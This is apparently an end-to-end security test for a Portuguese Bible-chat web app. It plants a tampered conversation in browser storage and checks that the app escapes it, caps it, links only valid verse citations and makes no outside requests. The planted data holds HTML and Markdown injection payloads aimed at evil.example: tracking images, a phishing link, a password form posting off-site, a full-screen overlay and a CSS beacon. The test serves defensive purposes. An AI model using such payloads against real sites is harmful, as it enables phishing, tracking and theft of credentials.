"""Issue 32: nothing from the browser is trusted. A conversation planted in the browser's storage, even under a
valid seal, comes back as escaped text with only validated citations linked, capped, and makes the browser fetch
nothing outside the app; one the server did not seal is dropped with a notice (real Chromium)."""

from __future__ import annotations

import base64
import hashlib
import json
import os

import pytest

from pastor.web import saved
from pastor.web.browser_keys import BrowserKeys
from pastor.web.conversation import Conversation, Exchange
from tests.e2e.test_browser import CHROMIUM, MISSING, MS, PLAYWRIGHT, browser, open_chat, screenshot, start_app  # noqa: F401

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif((CHROMIUM is None or not PLAYWRIGHT) and not os.environ.get("CI"), reason=MISSING),
]

SECRET = "segredo-do-teste-de-restauracao"
PLANTED_QUESTION = '<img src="https://evil.example/q.png"> Ligue agora: 0800 000 0000'
PLANTED_ANSWER = (
    '<a href="https://login.evil.example/entrar">Mateus 6:34</a> '
    "![rastreio](https://evil.example/p.png) <img src=https://evil.example/i.png> "
    '<form action="https://evil.example/post"><input type="password" name="senha"><button>Entrar</button></form> '
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Ligue agora: 0800 000 0000</div> '
    "<style>body{background:url(https://evil.example/bg.png)}</style> "
    "[Mateus 6:34](https://login.evil.example) www.evil.example — leia Mateus 6:34, João 3:16 e Hezequias 3:16."
)
FLOOD = 500  # exchanges before the planted one: the page shows at most saved.MAX_MESSAGES messages


def gradio_encrypted(value: dict, storage_key: str) -> str:
    """The value as Gradio's BrowserState writes it: CryptoJS AES with the SHA-256 (hex) of its secret as the
    passphrase (OpenSSL's salted format, key and iv from EVP_BytesToKey with MD5), after an unused iv."""
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    passphrase, salt = hashlib.sha256(storage_key.encode()).hexdigest().encode(), os.urandom(8)
    derived, block = b"", b""
    while len(derived) < 48:
        block = hashlib.md5(block + passphrase + salt).digest()
        derived += block
    padder = padding.PKCS7(128).padder()
    plain = padder.update(json.dumps(value).encode()) + padder.finalize()
    encryptor = Cipher(algorithms.AES(derived[:32]), modes.CBC(derived[32:48])).encryptor()
    cipher = encryptor.update(plain) + encryptor.finalize()
    return base64.b64encode(os.urandom(16)).decode() + ":" + base64.b64encode(b"Salted__" + salt + cipher).decode()


def planted_value() -> str:
    """A flood of exchanges and a hostile last one, sealed with the deployment's secret (as if it had leaked)."""
    flood = [Exchange(f"pergunta {n}", f"resposta {n}", f"t{n}", "rag") for n in range(FLOOD)]
    hostile = Exchange(
        PLANTED_QUESTION, PLANTED_ANSWER, "turno-plantado", "rag", (("verse", "MAT 6:34"), ("verse", "XYZ 1:1"))
    )
    convo = Conversation(last="x", last_mode="rag", exchanges=(*flood, hostile))
    payload = convo.to_browser(10**6)  # the browser's copy holds all of them: the restore must cap it
    keys = BrowserKeys.from_secret(SECRET)
    return gradio_encrypted(keys.sealed(payload), keys.storage)


@pytest.fixture(scope="module")
def restore_app(tmp_path_factory):
    app = start_app(tmp_path_factory.mktemp("browser-restore"), PASTOR_BROWSER_SECRET=SECRET)
    yield app
    app.stop()


# What in the chat could act: tags the page never writes, links that leave it, inline styles, a fixed overlay.
LIVE_PARTS = """() => {
  const chat = document.querySelector('#chatbot');
  const found = [];
  for (const el of chat.querySelectorAll('img, form, input, iframe, script, style, object, embed, link, video, svg'))
    if (!el.closest('button svg, button'))  // Gradio's own icon buttons (like, copy) draw SVGs with a <style>
      found.push(el.outerHTML.slice(0, 120));
  for (const a of chat.querySelectorAll('a[href]'))
    if (!a.getAttribute('href').startsWith('#')) found.push(a.outerHTML.slice(0, 120));
  for (const el of chat.querySelectorAll('*'))
    if (getComputedStyle(el).position === 'fixed') found.push('fixed: ' + el.outerHTML.slice(0, 120));
  return found;
}"""


def test_a_planted_conversation_renders_as_text_and_no_request_leaves_the_page(restore_app, browser):
    from playwright.sync_api import expect

    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="pt-BR")
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    stored = f"localStorage.getItem({json.dumps(saved.STORAGE_KEY)})"
    try:
        open_chat(restore_app, page)
        page.evaluate("([key, value]) => localStorage.setItem(key, value)", [saved.STORAGE_KEY, planted_value()])
        page.reload()
        chat = page.locator("#chatbot")
        users = chat.locator('[data-testid="user"]')
        expect(users.last).to_contain_text(PLANTED_QUESTION, timeout=60 * MS)  # the tags, as text
        answer = chat.locator('[data-testid="bot"]').filter(has_text="Hezequias").first
        expect(answer).to_contain_text("Ligue agora: 0800 000 0000")
        expect(answer).to_contain_text('<form action="https://evil.example/post">')
        # Only the verse the app can show is a link, each time it is named, to its own source entry.
        expect(answer.locator("a")).to_have_count(3)
        assert set(answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")) == {
            "#fonte-turno-plantado-MAT-6-34"
        }
        assert page.evaluate(LIVE_PARTS) == []
        shown = users.count() + chat.locator('[data-testid="bot"]').count()
        assert shown <= saved.MAX_MESSAGES, shown
        # The most recent exchanges that fit: the planted one (3 messages) and the flood's last ones (2 each).
        expect(users.first).to_have_text(f"pergunta {FLOOD - (saved.MAX_MESSAGES - 3) // 2}")
        screenshot(page, "restore-planted")

        # A value this server did not seal (here, not even one Gradio can decrypt) is dropped with a notice.
        page.evaluate(
            "([key]) => localStorage.setItem(key, 'AAAA:U2FsdGVkX1+AAAAAAAAAAAAAAAAAAAAA')", [saved.STORAGE_KEY]
        )
        page.reload()
        expect(page.locator("#chat-notice")).to_contain_text("não pôde ser conferida", timeout=60 * MS)
        assert users.count() == 0
        page.wait_for_function(f"() => {stored} !== 'AAAA:U2FsdGVkX1+AAAAAAAAAAAAAAAAAAAAA'", timeout=10 * MS)
    finally:
        context.close()
    origin = restore_app.url
    outside = [url for url in requests if not url.startswith(origin + "/") and not url.startswith(("data:", "blob:"))]
    assert requests and outside == [], outside
